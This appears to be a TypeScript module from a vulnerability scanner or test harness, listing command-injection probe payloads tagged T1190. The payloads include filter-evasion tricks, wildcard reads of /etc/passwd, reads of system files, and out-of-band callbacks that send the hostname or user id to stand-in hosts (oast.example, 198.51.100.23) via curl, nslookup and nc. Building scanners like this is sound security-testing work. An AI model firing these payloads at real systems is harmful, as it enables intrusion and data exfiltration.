import { sh } from './hand';
import type { Hand } from './hand';

/** Scanners of vulnerabilities other than `scanner_a`: other words, other delays, other call-backs. */
export const scannerB: Hand = {
  name: 'scanner_b',
  commands: [
    sh('ask-id', 'T1190', 'id'),
    sh('ask-echo', 'T1190', 'echo n0t1ce-84213'),
    sh('ask-sum', 'T1190', 'echo $((31337*2))'),
    sh('ask-bc', 'T1190', 'expr 40 \\* 1043'),
    sh('ask-delay', 'T1190', 'sleep 3 #'),
    sh('ask-timeout', 'T1190', 'timeout 2 tail -f /dev/null'),
    sh('ask-ping', 'T1190', 'ping -i 1 -c 3 localhost'),
    sh('ask-hosts', 'T1190', 'cat /etc/hosts'),
    sh('ask-issue', 'T1190', 'head -c 200 /etc/issue'),
    sh('ask-host', 'T1190', 'host q8w2.oast.example'),
    sh('ask-lookup', 'T1190', 'nslookup $(id -u).z7.oast.example 127.0.0.1'),
    sh('ask-ping-name', 'T1190', 'ping -c 1 v4.oast.example'),
    sh('ask-curl-data', 'T1190', 'curl -k -m 5 -d "$(uname -n)" http://198.51.100.23/p'),
    sh('ask-wget-spider', 'T1190', 'wget --spider --timeout=3 http://198.51.100.23:8000/s1'),
    sh('ask-telnet', 'T1190', 'echo x | nc -w 1 198.51.100.23 80'),
    sh('ask-wildcard', 'T1190', '/usr/bin/tac /e?c/pass??'),
    sh('ask-path', 'T1190', '/???/???/i? 2>/dev/null || /usr/bin/id'),
    sh('ask-empty-variable', 'T1190', 'who$@ami; i${z}d'),
    sh('ask-newline', 'T1190', 'true\nuname -a'),
    sh('ask-file', 'T1190', 'uname -a | tee {uploads}/x1.txt'),
  ],
};
